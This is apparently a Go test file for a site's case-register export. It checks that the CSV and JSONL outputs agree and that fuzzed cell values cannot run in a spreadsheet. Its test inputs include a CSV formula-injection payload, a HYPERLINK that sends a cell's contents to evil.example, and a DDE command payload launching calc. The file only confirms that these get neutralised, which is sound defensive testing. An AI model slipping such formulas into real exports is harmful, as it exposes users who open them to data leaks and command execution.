package site

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// readTable reads data/register.csv as data/register.csv-metadata.json says.
func readTable(t *testing.T, pl *plan) []map[string]string {
	t.Helper()
	var meta struct {
		URL         string `json:"url"`
		TableSchema struct {
			PrimaryKey string `json:"primaryKey"`
			Columns    []struct{ Name, Titles, Datatype, Separator string }
		} `json:"tableSchema"`
	}
	if err := json.Unmarshal(pl.data[registerCSV+"-metadata.json"], &meta); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(pl.data[registerCSV])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if meta.URL != "register.csv" || meta.TableSchema.PrimaryKey != "id" || len(rows[0]) != len(meta.TableSchema.Columns) {
		t.Fatalf("metadata: %+v", meta)
	}
	var out []map[string]string
	for _, row := range rows[1:] {
		m := map[string]string{}
		for i, c := range meta.TableSchema.Columns {
			if rows[0][i] != c.Titles || c.Name != c.Titles {
				t.Errorf("column %d: %q, metadata say %q", i+1, rows[0][i], c.Titles)
			}
			m[c.Name] = cellText(row[i])
		}
		out = append(out, m)
	}
	return out
}

// The table and the lines say the same.
func TestRegisterData(t *testing.T) {
	p := dataPortal(t)
	formula := `=HYPERLINK("https://evil.example/?x="&A1;"klikněte")`
	p.Cases[1].Title = formula
	p.Cases[2].Title = "'quoted', line\none"
	pl := planned(t, p)
	table := readTable(t, pl)
	if bytes.Contains(bytes.ReplaceAll(pl.data[registerCSV], []byte("\r\n"), nil), []byte("\n")) || bytes.HasPrefix(pl.data[registerCSV], []byte("\xef\xbb\xbf")) {
		t.Error("lines do not end in CRLF, or a byte order mark")
	}
	n := 0
	for line := range bytes.Lines(pl.data[registerJSONL]) {
		var e map[string]any
		if err := json.Unmarshal(line, &e); err != nil {
			t.Fatal(err)
		}
		for key, value := range e {
			want := fmt.Sprint(value)
			if list, ok := value.([]any); ok {
				want = strings.Trim(strings.ReplaceAll(fmt.Sprint(list), ",", ""), "[]")
			}
			if got := table[n][key]; got != oneLine(want) {
				t.Errorf("row %d: %s: %q, the lines say %q", n+1, key, got, want)
			}
		}
		for key, value := range table[n] {
			if _, there := e[key]; !there && value != "" {
				t.Errorf("row %d: %s: %q, the lines say nothing", n+1, key, value)
			}
		}
		n++
	}
	if n != 3 || len(table) != 3 || table[0]["title"] != formula || table[0]["due"] != "2026-07-16" || table[1]["topics"] != "roads" || table[1]["withheld"] != "1" {
		t.Errorf("table: %v", table)
	}
	if !bytes.Contains(pl.data[registerCSV], []byte(`"'=HYPERLINK(""https`)) {
		t.Errorf("a formula that runs: %s", pl.data[registerCSV])
	}
}

// What a cell holds is what was put in, on one line, and no spreadsheet runs it.
func FuzzCell(f *testing.F) {
	for _, s := range []string{"", "a", "=1+1", " =1+1", "\t@x", "+420", "-", "'a", "''", "＝1", "a\"b,c\r\nd", "\u2028=1", "\ufeff=1", "\xff", "=cmd|' /C calc'!A0"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := cell(s)
		if got, want := cellText(c), oneLine(s); got != want {
			t.Errorf("cell %q of %q gives back %q", c, s, got)
		}
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		w.UseCRLF = true
		if err := w.Write([]string{"id", c, "end"}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		row, err := csv.NewReader(&b).Read()
		if err != nil || len(row) != 3 || row[1] != c {
			t.Errorf("cell %q comes back as %q (%v)", c, row, err)
		}
		if strings.IndexAny(strings.TrimSpace(c), formulaStart) == 0 || strings.ContainsAny(c, "\r\n\t") {
			t.Errorf("cell %q of %q: a spreadsheet would run it, or it is not one line", c, s)
		}
	})
}
